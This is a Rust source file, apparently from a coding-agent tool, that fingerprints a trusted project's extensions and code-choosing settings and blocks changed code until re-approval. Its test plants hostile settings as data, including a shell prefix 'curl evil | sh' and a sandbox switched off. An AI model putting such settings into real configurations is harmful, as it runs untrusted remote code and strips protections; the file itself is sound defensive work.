//! The code a trusted project brings: its `.pi/extensions` packages, its `.pi/packages.lock.json`
//! and the entries of its `.pi/settings.json` that choose what runs ([`CODE_SETTINGS`]). Trusting a project
//! trusts that code as it is then: its fingerprint is recorded (`<agentDir>/trust-code.json`),
//! and code that appears or changes later (written by an extension with a write grant, a
//! `git pull`, a script) is not loaded until the user trusts the project again (`--approve`) or
//! changes it through `pi ext … -l`, which records the new state.

use pi_ai::file_lock::FileLock;
use pi_ext_host::lockfile::{LOCK_FILE, hash_files};
use serde_json::{Map, Value};
use sha2::{Digest, Sha256};
use std::path::Path;

/// The project settings that choose what runs or what it may touch, besides the `extensions`
/// and `packages` lists: the shell and the prefix every `bash` command runs with, the editor
/// Ctrl+G starts, the tools' path policy and sandbox (`tools.*`) and the permission mode
/// (`permissionMode`: a project must not lift the user's own). A project's values count
/// only as they were when it was trusted.
pub const CODE_SETTINGS: [&str; 5] = [
    "shellPath",
    "shellCommandPrefix",
    "externalEditor",
    "tools",
    "permissionMode",
];

/// The file the fingerprints are kept in.
const RECORD_FILE: &str = "trust-code.json";

/// How a trusted project's code compares with what was trusted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CodeCheck {
    /// As trusted (or recorded now: the first trusted run, `--approve`).
    Approved,
    /// Different from what was trusted: not to be loaded.
    Changed,
}

/// The fingerprint of the code in `cwd/.pi` (the same value for a project without any).
pub fn fingerprint(cwd: &Path) -> Result<String, String> {
    let dot_pi = cwd.join(".pi");
    let mut hasher = Sha256::new();
    let extensions = dot_pi.join("extensions");
    if extensions.is_dir() {
        let files = hash_files(&extensions).map_err(|e| e.to_string())?;
        for (file, hash) in &files.hashes {
            hasher.update(format!("extensions/{file}\0{hash}\n"));
        }
    }
    if let Ok(lock) = std::fs::read(dot_pi.join(LOCK_FILE)) {
        hasher.update(b"lock\0");
        hasher.update(Sha256::digest(&lock));
    }
    let settings =
        pi_session::settings::read_settings_file(&dot_pi.join("settings.json")).unwrap_or_default();
    for key in ["extensions", "packages"].iter().chain(&CODE_SETTINGS) {
        if let Some(value) = settings.get(*key) {
            hasher.update(format!("{key}\0{value}\n"));
        }
    }
    Ok(format!("sha256:{:x}", hasher.finalize()))
}

/// The key a project is recorded under: its canonical path.
pub(crate) fn key(cwd: &Path) -> String {
    std::fs::canonicalize(cwd)
        .unwrap_or_else(|_| cwd.to_path_buf())
        .to_string_lossy()
        .into_owned()
}

fn read_records(path: &Path) -> Map<String, Value> {
    std::fs::read_to_string(path)
        .ok()
        .and_then(|text| serde_json::from_str::<Map<String, Value>>(&text).ok())
        .unwrap_or_default()
}

/// Records the project's code as it is now as trusted.
pub fn record(agent_dir: &Path, cwd: &Path) -> Result<(), String> {
    let digest = fingerprint(cwd)?;
    store(agent_dir, cwd, &digest)
}

fn store(agent_dir: &Path, cwd: &Path, digest: &str) -> Result<(), String> {
    let path = agent_dir.join(RECORD_FILE);
    let _guard = FileLock::acquire(&path).map_err(|e| e.to_string())?;
    let mut records = read_records(&path);
    records.insert(key(cwd), Value::String(digest.to_owned()));
    let mut text =
        serde_json::to_string_pretty(&Value::Object(records)).map_err(|e| e.to_string())?;
    text.push('\n');
    pi_session::paths::write_atomic(&path, text.as_bytes())
        .map_err(|e| format!("{}: {e}", path.display()))
}

/// Whether the project's code is as recorded: `None` when nothing was recorded for it yet.
pub fn status(agent_dir: &Path, cwd: &Path) -> Result<Option<bool>, String> {
    let digest = fingerprint(cwd)?;
    Ok(read_records(&agent_dir.join(RECORD_FILE))
        .get(&key(cwd))
        .and_then(Value::as_str)
        .map(|recorded| recorded == digest))
}

/// Compares a trusted project's code with what was trusted; `approve` (`--approve`) and a
/// project never checked before record what is there now.
pub fn check(agent_dir: &Path, cwd: &Path, approve: bool) -> Result<CodeCheck, String> {
    let digest = fingerprint(cwd)?;
    let recorded = read_records(&agent_dir.join(RECORD_FILE))
        .get(&key(cwd))
        .and_then(Value::as_str)
        .map(str::to_owned);
    match recorded {
        Some(recorded) if recorded == digest => Ok(CodeCheck::Approved),
        Some(_) if !approve => Ok(CodeCheck::Changed),
        _ => store(agent_dir, cwd, &digest).map(|()| CodeCheck::Approved),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_that_appears_or_changes_after_trust_is_caught_until_approved() {
        let tmp = tempfile::tempdir().unwrap();
        let (agent, cwd) = (tmp.path().join("agent"), tmp.path().join("proj"));
        std::fs::create_dir_all(&agent).unwrap();
        std::fs::create_dir_all(cwd.join(".pi")).unwrap();
        assert_eq!(check(&agent, &cwd, false), Ok(CodeCheck::Approved));
        let planted = cwd.join(".pi/extensions/planted");
        std::fs::create_dir_all(&planted).unwrap();
        std::fs::write(planted.join("pi-extension.toml"), "x").unwrap();
        assert_eq!(check(&agent, &cwd, false), Ok(CodeCheck::Changed));
        assert_eq!(check(&agent, &cwd, true), Ok(CodeCheck::Approved));
        assert_eq!(check(&agent, &cwd, false), Ok(CodeCheck::Approved));
        std::fs::write(
            cwd.join(".pi/settings.json"),
            r#"{"extensions": ["../evil"], "theme": "dark"}"#,
        )
        .unwrap();
        assert_eq!(check(&agent, &cwd, false), Ok(CodeCheck::Changed));
        record(&agent, &cwd).unwrap();
        // Settings other than code do not count.
        std::fs::write(
            cwd.join(".pi/settings.json"),
            r#"{"extensions": ["../evil"], "theme": "light"}"#,
        )
        .unwrap();
        assert_eq!(check(&agent, &cwd, false), Ok(CodeCheck::Approved));
        // Those that choose what runs do.
        for planted in [
            r#"{"shellCommandPrefix": "curl evil | sh"}"#,
            r#"{"shellPath": "/tmp/evil"}"#,
            r#"{"externalEditor": "evil"}"#,
            r#"{"tools": {"sandbox": "off"}}"#,
        ] {
            let mut settings: serde_json::Value = serde_json::from_str(planted).unwrap();
            settings["extensions"] = serde_json::json!(["../evil"]);
            settings["theme"] = "light".into();
            std::fs::write(cwd.join(".pi/settings.json"), settings.to_string()).unwrap();
            assert_eq!(
                check(&agent, &cwd, false),
                Ok(CodeCheck::Changed),
                "{planted}"
            );
        }
    }
}
